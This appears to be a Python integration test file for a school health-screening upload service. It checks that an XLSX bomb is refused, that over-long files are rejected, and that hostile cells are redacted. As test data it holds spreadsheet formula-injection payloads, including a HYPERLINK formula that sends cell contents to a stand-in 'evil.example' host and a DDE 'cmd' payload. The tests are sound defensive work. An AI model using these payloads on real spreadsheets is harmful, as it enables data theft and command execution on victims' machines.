"""Uploads against a hostile or careless school doctor, on the real API process, database and broker:
an XLSX bomb leaves the API's memory flat, an over-long file is refused whole (never cut short),
and rejected cells reach neither the dashboards nor a spreadsheet as raw values or formulas."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import psycopg
import pytest
from kafka import KafkaConsumer

from models.identity import student_key
from models.importing import COLUMNS
from models.topics import BMI_SCREENINGS
from services.access.users import add_user
from services.intake.importer import import_file
from services.platform.settings import Settings
from tests.e2e.conftest import add_school_and_student
from tests.hostile_files import xlsx_bomb
from tests.integration.web_client import api_process, rss_kib, signed_in

pytestmark = pytest.mark.integration

HEADER = list(COLUMNS["bmi"])
TODAY = "2025-09-01"
#: How much the API process may grow (peak resident memory) while refusing the bomb. Before the
#: limits, the same file grew it by hundreds of megabytes.
RSS_GROWTH_BOUND_MIB = 60


def _upload(client, name: str, content: bytes, kind: str = "bmi"):  # type: ignore[no-untyped-def]
    csrf = client.csrf("/web/doctor/import")
    return client.post("/web/doctor/import", data={"kind": kind, "csrf": csrf},
                       files={"file": (name, content, "application/octet-stream")})


def _messages(settings: Settings, topic: str) -> int:
    consumer = KafkaConsumer(settings.topic(topic), bootstrap_servers=settings.kafka_bootstrap,
                             auto_offset_reset="earliest", consumer_timeout_ms=10000, enable_auto_commit=False)
    try:
        return sum(1 for _ in consumer)
    finally:
        consumer.close()


def test_an_xlsx_bomb_is_refused_with_the_api_memory_flat(isolated: Settings, tmp_path: Path) -> None:
    token = add_user(isolated, "d-a", "school_doctor", schools=["SA01"])
    bomb = xlsx_bomb(tmp_path / "day.xlsx", HEADER, filler_strings=3_000_000)
    assert bomb.stat().st_size < 600_000  # ~54 MB of shared strings once unpacked
    with api_process(isolated, tmp_path / "api.log") as (url, process), signed_in(url, token) as client:
        assert client.get("/web/doctor/import").status_code == 200
        before = rss_kib(process.pid)
        refused = _upload(client, "day.xlsx", bomb.read_bytes())
        peak = rss_kib(process.pid, "VmHWM")
        assert refused.status_code == 413
        assert "expands too much" in refused.text or "解压后过大" in refused.text
        assert "upload_id" not in refused.text and 'id="publish"' not in refused.text
        growth_mib = (peak - before) / 1024
        assert growth_mib < RSS_GROWTH_BOUND_MIB, f"the API grew by {growth_mib:.0f} MiB"
        assert client.http.get("/health", timeout=5).status_code == 200


def test_a_file_over_the_row_limit_is_refused_whole(isolated: Settings, tmp_path: Path) -> None:
    token = add_user(isolated, "d-a", "school_doctor", schools=["SA01"])
    lines = [",".join(HEADER)] + [f"SA01,G1101012014030{n:05d},male,2014-03-07,{TODAY},138.5,31.2,d-a"
                                  for n in range(25_000)]
    with api_process(isolated, tmp_path / "api.log") as (url, _), signed_in(url, token) as client:
        client.cookies["shk_lang"] = "zh-CN"
        refused = _upload(client, "day.csv", ("\n".join(lines) + "\n").encode())
        assert refused.status_code == 413
        assert "超过 20,000 行数据，整个文件未导入" in refused.text
        assert 'id="publish"' not in refused.text
    assert _messages(isolated, BMI_SCREENINGS) == 0


def test_every_row_is_published_or_reported_and_rejections_are_redacted(isolated: Settings, tmp_path: Path) -> None:
    secret = isolated.student_key_secret.get_secret_value().encode()
    add_school_and_student(isolated, school_id="SA01", name="Li Xiaoming",
                           student_key=student_key(secret, "G110101201403070011"),
                           student_number="G110101201403070011", sex="male", birth_date="2014-03-07")
    token = add_user(isolated, "d-a", "school_doctor", schools=["SA01"])
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "张三 110101200501011234", "+cmd|' /C calc'!A0"]
    rows = [f"SA01,G110101201403070011,male,2014-03-07,{TODAY},138.5,31.2,d-a"]
    rows += [f'SA01,G110101201403070011,male,2014-03-07,{TODAY},abc,31.2,"{h.replace(chr(34), chr(34) * 2)}"'
             for h in hostile]
    rows += ['"=1+1",G110101201403070011,male,2014-03-07,' + TODAY + ",138.5,31.2,d-a"]
    content = ("\n".join([",".join(HEADER), *rows]) + "\n").encode()
    with api_process(isolated, tmp_path / "api.log") as (url, _), signed_in(url, token) as client:
        preview = _upload(client, "day.csv", content)
        assert preview.status_code == 200, preview.text[:2000]
        assert re.search(r'id="accepted-count">1<', preview.text)
        assert re.search(r'id="rejected-count">4<', preview.text)
        for value in (*hostile, "=1+1", "110101200501011234"):
            assert value not in preview.text and value.replace('"', "&#34;") not in preview.text
        upload_id = re.search(r"/web/doctor/import/([^/]+)/publish", preview.text)
        assert upload_id
        csrf = client.csrf("/web/doctor/import")
        done = client.post(f"/web/doctor/import/{upload_id.group(1)}/publish", data={"csrf": csrf})
        assert 'data-accepted="1" data-rejected="4"' in done.text
    with psycopg.connect(isolated.pg_dsn("admin")) as conn:
        stored = conn.execute("SELECT school_id, screener, reason FROM ops.import_rejections").fetchall()
    assert len(stored) == 4
    with psycopg.connect(isolated.pg_dsn("grafana")) as conn:
        shown = conn.execute("SELECT school_id, screener, code FROM reporting.dq_rejections").fetchall()
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("SELECT * FROM ops.import_rejections")
    text = repr(stored) + repr(shown)
    for value in (*hostile, "=1+1", "110101200501011234", "张三"):
        assert value not in text
    assert {row[1] for row in shown} == {"d-a", "(redacted)"}


def test_the_cli_rejection_report_holds_no_formula(isolated: Settings, tmp_path: Path) -> None:
    day = tmp_path / "day.csv"
    with day.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerow(["=HYPERLINK(\"http://evil\")", "G110101201403070011", "male", "2014-03-07", TODAY,
                         "=1+2", "31.2", "@SUM(A1)"])
    summary = import_file(isolated, "bmi", day, dry_run=True, report_path=tmp_path / "report.csv")
    assert len(summary.rejected) == 1 and summary.report_path is not None
    with summary.report_path.open(encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert not any("HYPERLINK" in cell or "SUM(" in cell for cell in cells), cells
